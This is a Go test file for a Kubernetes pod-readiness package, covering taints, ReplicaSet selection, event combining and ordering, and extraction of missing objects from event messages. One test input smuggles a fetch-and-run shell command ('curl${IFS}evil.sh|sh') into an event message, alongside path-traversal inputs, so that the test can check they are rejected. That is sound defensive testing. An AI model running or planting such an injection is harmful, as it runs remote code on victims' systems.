package ready

import (
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

func TestOnlyPermanentTaintsExcludeANode(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		taint       corev1.Taint
		toleration  corev1.Toleration
		untolerated bool
	}{
		{taint: corev1.Taint{Key: "team", Value: "ml", Effect: corev1.TaintEffectNoSchedule}, untolerated: true},
		{taint: corev1.Taint{Key: "team", Value: "ml", Effect: corev1.TaintEffectNoExecute}, untolerated: true},
		{taint: corev1.Taint{Key: "team", Value: "ml", Effect: corev1.TaintEffectPreferNoSchedule}},
		{
			taint:      corev1.Taint{Key: "team", Value: "ml", Effect: corev1.TaintEffectNoSchedule},
			toleration: corev1.Toleration{Key: "team", Operator: corev1.TolerationOpEqual, Value: "ml"},
		},
		{
			taint:       corev1.Taint{Key: "team", Value: "ml", Effect: corev1.TaintEffectNoSchedule},
			toleration:  corev1.Toleration{Key: "team", Operator: corev1.TolerationOpEqual, Value: "web"},
			untolerated: true,
		},
		{ // since Kubernetes 1.35, behind the feature gate TaintTolerationComparisonOperators
			taint:      corev1.Taint{Key: "sla", Value: "950", Effect: corev1.TaintEffectNoSchedule},
			toleration: corev1.Toleration{Key: "sla", Operator: corev1.TolerationOpGt, Value: "900"},
		},
		{taint: corev1.Taint{Key: "node-role.kubernetes.io/control-plane", Effect: corev1.TaintEffectNoSchedule},
			untolerated: true},
		{taint: corev1.Taint{Key: "node.kubernetes.io/unschedulable", Effect: corev1.TaintEffectNoSchedule}},
		{taint: corev1.Taint{Key: "node.kubernetes.io/not-ready", Effect: corev1.TaintEffectNoExecute}},
		{taint: corev1.Taint{Key: "node.cloudprovider.kubernetes.io/uninitialized",
			Effect: corev1.TaintEffectNoSchedule}},
		{taint: corev1.Taint{Key: "node.cilium.io/agent-not-ready", Effect: corev1.TaintEffectNoExecute}},
		{taint: corev1.Taint{Key: "ebs.csi.aws.com/agent-not-ready", Effect: corev1.TaintEffectNoExecute}},
		{taint: corev1.Taint{Key: "karpenter.sh/unregistered", Effect: corev1.TaintEffectNoExecute}},
	} {
		p := &corev1.Pod{Spec: corev1.PodSpec{Tolerations: []corev1.Toleration{c.toleration}}}
		if c.toleration.Key == "" {
			p.Spec.Tolerations = nil
		}
		n := &corev1.Node{Spec: corev1.NodeSpec{Taints: []corev1.Taint{c.taint}}}
		if got := untolerated(p, n) != nil; got != c.untolerated {
			t.Errorf("%s with toleration %v: excluded is %t", c.taint.ToString(), c.toleration, got)
		}
	}
}

func TestCurrentReplicaSetHasTheTemplateAndTheHighestRevision(t *testing.T) {
	t.Parallel()
	template := func(image, hash string) corev1.PodTemplateSpec {
		return corev1.PodTemplateSpec{
			ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "a",
				appsv1.DefaultDeploymentUniqueLabelKey: hash}},
			Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "c", Image: image}}},
		}
	}
	set := func(name, image, revision string) *appsv1.ReplicaSet {
		rs := &appsv1.ReplicaSet{ObjectMeta: metav1.ObjectMeta{Name: name,
			Annotations: map[string]string{"deployment.kubernetes.io/revision": revision}}}
		rs.Spec.Template = template(image, name)
		return rs
	}
	d := &appsv1.Deployment{}
	d.Spec.Template = template("b", "")
	delete(d.Spec.Template.Labels, appsv1.DefaultDeploymentUniqueLabelKey)

	sets := []*appsv1.ReplicaSet{set("a-1", "a", "11"), set("b-9", "b", "9"), set("b-10", "b", "10")}
	if got := currentReplicaSet(d, sets); got == nil || got.Name != "b-10" {
		t.Errorf("got %v, want b-10", got)
	}
	if got := currentReplicaSet(d, sets[:1]); got != nil {
		t.Errorf("got %s, but no ReplicaSet has the template", got.Name)
	}
	d.Spec.Template.Labels[appsv1.DefaultDeploymentUniqueLabelKey] = "exported"
	if got := currentReplicaSet(d, sets); got == nil || got.Name != "b-10" {
		t.Errorf("got %v for a template with the label of a ReplicaSet, want b-10", got)
	}
	if got := d.Spec.Template.Labels; len(got) != 2 {
		t.Errorf("the template was changed: %v", got)
	}
}

func TestClaimsOfEphemeralVolumesAreNamedAfterPodAndVolume(t *testing.T) {
	t.Parallel()
	p := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "svc-1"}, Spec: corev1.PodSpec{Volumes: []corev1.Volume{
		{Name: "scratch", VolumeSource: corev1.VolumeSource{Ephemeral: &corev1.EphemeralVolumeSource{}}},
		{Name: "data",
			VolumeSource: corev1.VolumeSource{
				PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "shared"}}},
		{Name: "dshm", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}},
	}}}
	if got := strings.Join(ClaimNames(p), " "); got != "svc-1-scratch shared" {
		t.Errorf("got %q", got)
	}
}

func TestSimilarEventsOfPodsAreCombined(t *testing.T) {
	t.Parallel()
	event := func(message string, count int32) *corev1.Event {
		return &corev1.Event{Reason: "FailedCreate", Message: message, Count: count}
	}
	series := &corev1.Event{Reason: "BackOff", Message: "again", Series: &corev1.EventSeries{Count: 7}}
	log := newEventLog([]*corev1.Event{
		event(`Error creating: pods "a-1" is forbidden: no`, 1),
		event(`Error creating: pods "a-2" is forbidden: no`, 1),
		event(`(combined from similar events): Error creating: pods "a-3" is forbidden: no`, 5),
		series,
	})
	got := strings.Join(log.render(), "\n")
	want := "FailedCreate: no (x7)\nBackOff: again (x7)"
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

func TestMissingObjectIsExtractedFromMessages(t *testing.T) {
	t.Parallel()
	p := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "ml"}, Spec: corev1.PodSpec{Volumes: []corev1.Volume{
		{Name: "cfg",
			VolumeSource: corev1.VolumeSource{
				ConfigMap: &corev1.ConfigMapVolumeSource{
					LocalObjectReference: corev1.LocalObjectReference{Name: "settings"}}}},
		{Name: "both", VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{}}},
		{Name: "hf", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "hf"}}},
	}}}
	const mountFailed = "MountVolume.SetUp failed for volume "
	for message, want := range map[string]string{
		`secret "hf" not found`:                          `Secret "hf" does not exist in namespace ml.`,
		`configmap "settings" not found`:                 `ConfigMap "settings" does not exist in namespace ml.`,
		`couldn't find key a.b in ConfigMap ml/settings`: `ConfigMap "settings" in namespace ml has no key "a.b".`,
		mountFailed + `"cfg" : configmap references non-existent config key: x`: `ConfigMap "settings" in namespace ` +
			`ml has no key "x".`,
		mountFailed + `"both" : references non-existent secret key: k`: `a Secret has no key "k".`,
		mountFailed + `"both" : references non-existent config key: k`: `a ConfigMap has no key "k".`,
		mountFailed + `"nfs" : mount failed: exit status 32`:           "",
		// Whoever may write events can write any text.
		`secret "settings" not found`:                              "",
		`configmap "hf" not found`:                                 "",
		`secret "../pods/x" not found`:                             "",
		`couldn't find key k in Secret kube-system/hf`:             "",
		`couldn't find key k in Secret ml/hf;curl${IFS}evil.sh|sh`: "",
	} {
		got := ""
		if ref := missingObject(p, message); ref != nil {
			got = ref.absent()
		}
		if got != want {
			t.Errorf("%s: got %q, want %q", message, got, want)
		}
	}
}

func TestEventsAreOrderedByTheirLastOccurrence(t *testing.T) {
	t.Parallel()
	at := func(second int) metav1.Time { return metav1.Date(2026, 11, 21, 8, 0, second, 0, time.UTC) }
	exact := func(second int) metav1.MicroTime { return metav1.NewMicroTime(at(second).Time) }
	named := func(name string, e corev1.Event) *corev1.Event {
		e.Message = name
		e.Reason = "R"
		return &e
	}
	log := newEventLog([]*corev1.Event{
		named("repeated", corev1.Event{FirstTimestamp: at(1), LastTimestamp: at(6)}),
		named("series", corev1.Event{EventTime: exact(1), Series: &corev1.EventSeries{LastObservedTime: exact(5)}}),
		named("new API", corev1.Event{EventTime: exact(4)}),
		named("only created", corev1.Event{ObjectMeta: metav1.ObjectMeta{CreationTimestamp: at(3)}}),
		named("old", corev1.Event{LastTimestamp: at(2)}),
	})
	want := "R: old, R: only created, R: new API, R: series, R: repeated"
	if got := strings.Join(log.render(), ", "); got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestFailureOfAPodIsThatOfItsMainContainer(t *testing.T) {
	t.Parallel()
	always := corev1.ContainerRestartPolicyAlways
	p := &corev1.Pod{Spec: corev1.PodSpec{
		InitContainers: []corev1.Container{{Name: "proxy", RestartPolicy: &always}},
		Containers:     []corev1.Container{{Name: "logs"}, {Name: "kubetorch"}},
	}}
	ended := func(name string, code int32) corev1.ContainerStatus {
		return corev1.ContainerStatus{Name: name, State: corev1.ContainerState{
			Terminated: &corev1.ContainerStateTerminated{ExitCode: code},
		}}
	}
	for _, c := range []struct {
		proxy, logs, main int32
		want              string
	}{
		{1, 1, 1, "kubetorch"}, {1, 1, 0, "logs"}, {1, 0, 0, "proxy"}, {0, 0, 0, ""},
	} {
		p.Status.InitContainerStatuses = []corev1.ContainerStatus{ended("proxy", c.proxy)}
		p.Status.ContainerStatuses = []corev1.ContainerStatus{ended("logs", c.logs), ended("kubetorch", c.main)}
		got := ""
		if status := failedContainer(p); status != nil {
			got = status.Name
		}
		if got != c.want {
			t.Errorf("exit codes %+v: %q, want %q", c, got, c.want)
		}
	}
}
